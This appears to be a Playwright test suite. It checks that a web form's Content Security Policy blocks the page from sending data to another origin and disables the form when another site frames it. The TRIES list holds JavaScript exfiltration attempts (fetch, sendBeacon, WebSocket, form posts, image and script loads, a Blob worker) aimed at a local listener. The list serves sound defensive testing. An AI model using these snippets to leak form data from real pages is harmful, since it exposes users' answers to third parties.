"""A form page asks its own site for its own files, and the browser refuses whatever else is tried from it."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from example_handbook import LANGUAGES, in_one_language
from form import Form
from playwright.sync_api import BrowserContext, Page, expect
from tebiki.locales import words

PAGE = "about/visitor-check.html"
TRIES = {
    "fetch": "fetch(to + '?answers')",
    "XMLHttpRequest": "new Promise((_, no) => { const x = new XMLHttpRequest(); x.onerror = no; x.open('POST', to); x.send('answers'); })",
    "beacon": "navigator.sendBeacon(to, 'answers')",
    "EventSource": "new EventSource(to + '?answers')",
    "WebSocket": "new WebSocket(to.replace('http', 'ws') + '?answers')",
    "form": "(() => { const f = document.createElement('form'); f.method = 'post'; f.action = to;"
    " document.body.append(f); f.submit(); })()",
    "form in another window": "(() => { const f = document.createElement('form'); f.target = '_blank'; f.action = to;"
    " document.body.append(f); f.requestSubmit(); })()",
    "picture": "(() => { new Image().src = to + '?answers'; })()",
    "script": "(() => { const s = document.createElement('script'); s.src = to + '?answers'; document.head.append(s); })()",
    "style": "(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '?answers';"
    " document.head.append(l); })()",
    "frame": "(() => { const f = document.createElement('iframe'); f.src = to + '?answers'; document.body.append(f); })()",
}


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """The address of another site, and what it was asked for."""
    asked: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            blank = self.path == "/"
            if not blank:
                asked.append(self.path)
            self.send_response(200 if blank else 204)
            self.send_header("Content-Type", "text/html")
            self.end_headers()

        do_POST = do_GET

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


@in_one_language
def test_whatever_is_tried_is_refused(
    language: str, library: str, page: Page, listener: tuple[str, list[str]]
) -> None:
    address, asked = listener
    Form(page).open(library, language, PAGE)
    address += "elsewhere"
    for name, attempt in TRIES.items():
        refused = page.evaluate(
            f"""to => new Promise(done => {{
              addEventListener("securitypolicyviolation", event => done(event.effectiveDirective), {{ once: true }});
              setTimeout(() => done(""), 3000);
              try {{ Promise.resolve({attempt}).catch(() => 0); }} catch {{}}
            }})""",
            address,
        )
        assert refused, name
    # a worker of a script's own making: whether it starts or not, the policy is over it too
    page.evaluate("to => void new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))", address)
    page.wait_for_timeout(500)
    assert asked == []
    assert page.url.startswith(library), "nothing led away"
    assert page.evaluate("document.querySelector('[data-ready]') !== null")


def test_the_same_is_let_through_without_the_policy(
    context: BrowserContext, listener: tuple[str, list[str]]
) -> None:
    """Otherwise the test above would show nothing."""
    address, asked = listener
    page = context.new_page()
    page.goto(address)
    address += "elsewhere"
    for name in ("picture", "beacon"):
        with page.expect_request(lambda request: request.url.startswith(address)):
            page.evaluate(f"to => void ({TRIES[name]})", address)
    page.wait_for_timeout(300)
    assert len(asked) >= 2


@in_one_language
def test_only_files_of_the_site_are_asked_for(language: str, library: str, context: BrowserContext) -> None:
    """From opening the page over answering to the tools: GET of static files, nothing else, and no answer in any address."""
    asked: list[tuple[str, str, str]] = []
    context.on(
        "request", lambda request: asked.append((request.method, request.url, request.post_data or ""))
    )
    form = Form(context.new_page()).open(library, language, PAGE)
    form.answer("has-card", "done")
    form.write("has-card", "note", "geheim")
    form.control("tools").click()
    form.control("tool-report").click()
    form.control("tool-history").click()
    form.page.wait_for_timeout(600)
    sent = [request for request in asked if not request[1].startswith(("blob:", "data:"))]
    assert {method for method, _url, _data in sent} == {"GET"}
    assert all(url.startswith(library) and "?" not in url and not data for _method, url, data in sent), sent
    assert not any("geheim" in url for _method, url, _data in asked)


@pytest.mark.fresh_profile
def test_a_form_in_a_frame_of_another_site_is_switched_off(
    library: str, page: Page, listener: tuple[str, list[str]]
) -> None:
    """It shows no stored answer there, says why in every language, and opens by itself."""
    form = Form(page).open(library, "ja", PAGE)
    form.answer("has-card", "done")
    page.goto(listener[0])
    page.set_content(f'<iframe src="{library}/ja/{PAGE}" width="900" height="700"></iframe>')
    frame = page.frame_locator("iframe")
    for language in LANGUAGES:
        notice = frame.get_by_text(words(language, "form")["paper"]["framed"])
        expect(notice).to_be_visible()
        expect(notice).to_have_attribute("lang", language)
    expect(frame.locator("tebiki-checklist :is(form, input, textarea)")).to_have_count(0)
    with page.context.expect_page() as opened:
        frame.get_by_role("link", name=words("en", "form")["paper"]["framed-link"]).click()
    Form(opened.value).ready()
    expect(opened.value.locator(".tf-framed")).to_be_hidden()
